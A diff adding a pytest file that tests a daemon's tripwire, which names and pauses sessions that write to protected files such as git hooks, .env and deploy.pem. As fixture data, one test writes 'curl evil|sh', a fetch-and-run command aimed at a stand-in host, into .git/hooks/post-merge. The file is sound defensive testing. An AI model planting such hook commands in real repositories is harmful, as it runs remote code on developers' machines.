@@ -1,0 +1,189 @@
+"""The tripwire names a session by evidence, not by time or directory (issue 13, findings
+2 and 3), with a real daemon in pause mode, real sessions and real files:
+
+- an idle session in the same workspace is neither named nor paused;
+- the operator's own write (outside any session) names and pauses nothing, even with a
+  session whose cwd is above the workspace and that wrote elsewhere earlier;
+- a session started elsewhere that writes into the workspace by absolute path is named
+  (and paused when it holds the file open for write);
+- a workspace given as a symlink still matches the real cwd of the writer;
+- a session that writes a hook and exits at once still raises an item, state "exited".
+"""
+
+from __future__ import annotations
+
+import json
+import time
+
+import pytest
+from daemon_harness import running_daemon, short_tmp, wait_for, workspace
+from test_daemon_watch import stopped
+
+
+@pytest.fixture(scope="module")
+def env():
+    ws = workspace()
+    link = short_tmp("ln-") / "ws-link"
+    link.symlink_to(ws)
+    other = workspace()  # watched too: changes there are nobody's business here
+    # The watched root is given as a symlink; sessions' cwds are real paths.
+    policy = f'approval_timeout_s = 120\ntripwire = "pause"\nwatch = {json.dumps([str(link), str(other)])}\n'
+    with running_daemon(policy) as d:
+        with d.operator() as op:
+            wait_for(lambda: op.call("watch.status")["ok"] and len(op.call("watch.status")["roots"]) == 2)
+        yield d, ws, link
+
+
+def new(op, cwd, argv):
+    return op.call("sessions.new", {"argv": argv, "cwd": str(cwd)})["session"]
+
+
+def protected_event(op, name):
+    def find():
+        for e in op.call("watch.recent", {"protected_only": True})["events"]:
+            if e["path"] == name:
+                return e
+        return None
+
+    return wait_for(find)
+
+
+def items_of(op, sid):
+    return [i for i in op.call("tripwire.list", {"include_resolved": True})["items"] if i["session"] == sid]
+
+
+def end(op, *sids):
+    for item in op.call("tripwire.list", {"open": True})["items"]:
+        if item["session"] in sids:
+            op.call("tripwire.resolve", {"id": item["id"], "action": "kill"})
+    for sid in sids:
+        if op.call("sessions.get", {"session": sid})["session"]["status"] not in ("exited", "lost"):
+            op.call("sessions.kill", {"session": sid, "grace_s": 1})
+
+
+def test_only_the_writer_is_paused_not_the_idle_session_beside_it(env):
+    d, ws, _link = env
+    with d.operator() as op:
+        idle = new(op, ws, ["bash", "--norc", "--noprofile", "-i"])
+        wait_for(lambda: op.call("sessions.get", {"session": idle["id"]})["session"]["output_bytes"] > 0)
+        time.sleep(0.3)  # its prompt is out: from here on it is idle
+        writer = new(op, ws, ["bash", "--norc", "-c", "sleep 1; echo evil > .git/hooks/pre-push; sleep 30"])
+        try:
+            event = protected_event(op, ".git/hooks/pre-push")
+            assert [a["id"] for a in event["attribution"]] == [writer["id"]]
+            assert event["attribution"][0]["basis"] == "write I/O in window"
+            assert event["attribution"][0]["in_workspace"] is True
+            item = wait_for(lambda: items_of(op, writer["id"]))[0]
+            assert item["state"] == "paused" and item["basis"] == "write I/O in window"
+            assert wait_for(lambda: stopped(writer["pid"]))
+            assert items_of(op, idle["id"]) == []
+            assert not stopped(idle["pid"])
+            row = wait_for(
+                lambda: op.call("history.query", {"kinds": ["file_event"], "search": "pre-push"})["rows"]
+            )[0]
+            assert row["session_id"] == writer["id"]
+            assert row["body"]["attribution"]["basis"] == "write I/O in window"
+        finally:
+            end(op, idle["id"], writer["id"])
+
+
+def test_the_operators_own_write_names_and_pauses_nobody(env):
+    d, ws, _link = env
+    with d.operator() as op:
+        idle = new(op, ws, ["bash", "--norc", "--noprofile", "-i"])
+        # cwd above the workspace; it wrote elsewhere, then went quiet
+        elsewhere = short_tmp() / "elsewhere"
+        above = new(op, ws.parent.parent, ["sh", "-c", f"echo x > {elsewhere}; sleep 30"])
+        try:
+            wait_for(lambda: op.call("sessions.get", {"session": idle["id"]})["session"]["output_bytes"] > 0)
+            wait_for(elsewhere.exists)
+            time.sleep(0.6)
+            (ws / ".env").write_text("TOKEN=operator\n")
+            event = protected_event(op, ".env")
+            assert event["attribution"] == []
+            assert event["attribution_basis"] == "unattributed"
+            time.sleep(0.3)
+            assert items_of(op, idle["id"]) == [] and items_of(op, above["id"]) == []
+            assert not stopped(idle["pid"]) and not stopped(above["pid"])
+        finally:
+            end(op, idle["id"], above["id"])
+
+
+def test_a_session_started_elsewhere_writing_by_absolute_path_is_named(env):
+    d, ws, _link = env
+    away = short_tmp("away-")
+    with d.operator() as op:
+        once = new(op, away, ["sh", "-c", f"sleep 1; echo T=1 >> {ws}/.env.prod; sleep 30"])
+        try:
+            event = protected_event(op, ".env.prod")
+            assert [a["id"] for a in event["attribution"]] == [once["id"]]
+            assert event["attribution"][0]["basis"] == "write I/O in window"
+            assert event["attribution"][0]["in_workspace"] is False
+            time.sleep(0.3)
+            assert items_of(op, once["id"]) == []  # weak evidence: an alert, not a pause
+        finally:
+            end(op, once["id"])
+        held = new(
+            op,
+            away,
+            ["bash", "--norc", "-c", f"exec 3>>{ws}/deploy.pem; sleep 1; echo k >&3; sleep 30"],
+        )
+        try:
+            event = protected_event(op, "deploy.pem")
+            assert [a["id"] for a in event["attribution"]] == [held["id"]]
+            assert event["attribution"][0]["basis"] == "open for write"
+            item = wait_for(lambda: items_of(op, held["id"]))[0]
+            assert item["state"] == "paused" and item["basis"] == "open for write"
+            assert wait_for(lambda: stopped(held["pid"]))
+        finally:
+            end(op, held["id"])
+
+
+def test_a_writer_that_exits_at_once_still_raises_an_item(env):
+    d, ws, _link = env
+    with d.operator() as op:
+        op.subscribe(["watch"])
+        quick = new(op, ws, ["sh", "-c", "sleep 0.8; echo 'curl evil|sh' > .git/hooks/post-merge"])
+        while (event := op.next_event()).get("change") != "alert":
+            continue
+        assert event["session"] == quick["id"] and event["exited"] is True
+        item = wait_for(lambda: items_of(op, quick["id"]))[0]
+        assert item["state"] == "exited"
+        assert item["summary"] == f"session {quick['id']} (exited) modified .git/hooks/post-merge"
+        assert item in op.call("tripwire.list", {"open": True})["items"]
+        rows = wait_for(
+            lambda: [
+                r
+                for r in op.call("history.query", {"kinds": ["tripwire"]})["rows"]
+                if r["session_id"] == quick["id"]
+            ]
+        )
+        assert rows[0]["verdict"] == "exited"
+        resolved = op.call("tripwire.resolve", {"id": item["id"], "action": "keep_paused"})["item"]
+        assert resolved["state"] == "dismissed"
+
+
+def test_a_writer_left_behind_by_an_exited_shell_is_frozen(env):
+    d, ws, _link = env
+    out = short_tmp("left-") / "out"
+    child = f"sleep 1.5; echo evil > .git/hooks/post-checkout; while :; do echo y >> {out}; sleep 0.01; done"
+    with d.operator() as op:
+        # (the shell lingers a moment: a child that has not called setsid yet when the
+        # terminal's controlling process exits would get its SIGHUP)
+        sid = new(op, ws, ["sh", "-c", f"setsid -f sh -c '{child}' </dev/null >/dev/null 2>&1; sleep 0.3"])[
+            "id"
+        ]
+        wait_for(lambda: op.call("sessions.get", {"session": sid})["session"]["status"] == "exited")
+        event = protected_event(op, ".git/hooks/post-checkout")
+        assert [a["id"] for a in event["attribution"]] == [sid], event["attribution"]
+        item = wait_for(lambda: items_of(op, sid))[0]
+        assert item["state"] == "paused" and item["stop_mode"] == "cgroup freeze"
+        assert wait_for(lambda: op.call("tripwire.list")["items"][0]["stopped"] is True)
+        before = out.stat().st_size if out.exists() else 0
+        time.sleep(0.5)
+        assert (out.stat().st_size if out.exists() else 0) == before
+        op.call("tripwire.resolve", {"id": item["id"], "action": "kill"})
+        time.sleep(0.3)
+        after = out.stat().st_size if out.exists() else 0
+        time.sleep(0.3)
+        assert (out.stat().st_size if out.exists() else 0) == after  # gone, not resumed
